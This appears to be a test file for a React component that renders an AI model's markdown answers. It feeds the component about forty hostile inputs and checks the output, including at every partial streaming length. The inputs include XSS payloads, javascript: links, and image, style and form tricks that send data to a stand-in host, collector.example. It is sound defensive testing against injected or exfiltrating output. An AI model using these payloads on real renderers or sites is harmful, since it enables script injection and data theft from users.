import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Answer } from './answer.tsx';

/** What a model, or a page that it has read, may write to load, run or ask for something. */
const HOSTILE: readonly string[] = [
  '![p](https://collector.example/p.png?d=secret)',
  '![p][r]\n\n[r]: https://collector.example/r.png "t"',
  '[![p](https://collector.example/p.png)](https://collector.example/)',
  '![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<img src=x onerror="alert(1)">',
  '<img srcset="https://collector.example/a.png 1x, https://collector.example/b.png 2x">',
  '<picture><source srcset="https://collector.example/a.png"></picture>',
  '<video src="https://collector.example/v" poster="https://collector.example/p" autoplay></video>',
  '<audio src="https://collector.example/a" autoplay></audio>',
  '<link rel="preload" as="image" href="https://collector.example/p">',
  '<link rel="dns-prefetch" href="//collector.example">',
  '<style>@import url(https://collector.example/s.css); p { background: url(//collector.example) }</style>',
  '<p style="background: url(https://collector.example/b)">styled</p>',
  '<script>alert(2)</script>',
  '<script src="https://collector.example/s.js"></script>',
  '<iframe src="https://collector.example/" srcdoc="<script>alert(3)</script>"></iframe>',
  '<object data="https://collector.example/o"></object><embed src="https://collector.example/e">',
  '<form action="https://collector.example/"><input name="password" autofocus><button>Log in</button></form>',
  '<svg onload="alert(4)"><image href="https://collector.example/i"/><use href="#x"/></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(5)">x</maction></math>',
  '<meta http-equiv="refresh" content="0;url=https://collector.example/">',
  '<base href="https://collector.example/">',
  '<body onload="alert(6)"><details open ontoggle="alert(7)"><summary>s</summary></details>',
  '<a href="javascript:alert(8)" onclick="alert(9)">click</a>',
  '[click](javascript:alert(10))',
  '[click](JaVaScRiPt&colon;alert(11))',
  '[click](java\tscript:alert(12)) [click](vbscript:x) [click](file:///etc/passwd) [click](blob:x)',
  '[click](data:text/html,<script>alert(13)</script>)',
  '<javascript:alert(14)> <data:text/html,x>',
  '[click][j]\n\n[j]: javascript:alert(15)',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(16)"\n```',
  '```html\n<script>alert(17)</script>\n```',
  '$$\\href{javascript:alert(18)}{x}$$',
  '\u001b]8;;https://collector.example/\u0007click\u001b]8;;\u0007 \u001b[31mred',
  'Hi\u{E0048}\u{E0049}\u{E007F} \u202Etxt.exe\u202C',
  '<!-- <img src=https://collector.example/c> --> <![CDATA[<script>alert(19)</script>]]>',
  '<mark onmouseover="alert(20)">m</mark><cite onclick="alert(21)" data-page>9</cite>',
  '<p id="root" name="config" class="fixed inset-0 z-50">over everything</p>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(22)> ![f](https://collector.example/f.png)',
];

/** Where it may stand. */
const PLACES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `# ${text}`,
  (text) => `- ${text}`,
  (text) => `> ${text}`,
  (text) => `| a | b |\n| --- | --- |\n| ${text.replaceAll('|', '\\|')} | c |`,
  (text) => `Before **${text}** [${text}](https://example.org/)`,
];

const ELEMENTS = new Set(
  'a bdi blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr input li ol p pre s section span strong sup table tbody td th thead tr ul svg path'.split(
    ' ',
  ),
);
/** A table's own button has an icon; it is ours, and it loads nothing. */
const ATTRIBUTE =
  /^(class|lang|dir|id|start|rel|target|type|tabindex|role|disabled|checked|title|data-[\w-]+|aria-[\w-]+|align|width|height|viewbox|fill|stroke[\w-]*|d|focusable)$/;

/** What of drawn markup does more than stand there, or comes from an answer and takes our own names. */
function findings(markdown: string): string[] {
  const markup = renderToStaticMarkup(<Answer markdown={markdown} language="en" />);
  return [...markup.matchAll(/<([a-z][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/gi)].flatMap(
    ([tag, name = '', attributes = '']) => {
      const odd = [...attributes.matchAll(/([\w:-]+)(?:="([^"]*)")?/g)].filter(([, key = '', value = '']) => {
        const at = key.toLowerCase();
        if (at === 'href') return !/^(https?:|mailto:|#)/.test(value);
        if (at === 'style') return !/^text-align:(left|right|center)$/.test(value);
        if (at === 'type') return !['button', 'checkbox'].includes(value);
        if (at === 'class') return /\bfixed\b/.test(value);
        return !ATTRIBUTE.test(at);
      });
      return ELEMENTS.has(name.toLowerCase()) && odd.length === 0 ? [] : [tag];
    },
  );
}

describe('an answer that tries to load and run things', () => {
  it.each(HOSTILE)('only stands there, wherever it does: %j', (text) => {
    for (const place of PLACES) expect(findings(place(text))).toEqual([]);
  });

  it.each(HOSTILE)('only stands there at every moment of its coming: %j', (text) => {
    for (let length = 1; length < text.length; length += 1) {
      expect(findings(text.slice(0, length))).toEqual([]);
    }
  });

  it('is seen by this test', () => {
    expect(renderToStaticMarkup(<Answer markdown="[a](https://a.example/)" language="en" />)).toContain(
      '<a class="link" href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow">a</a><bdi',
    );
  });
});
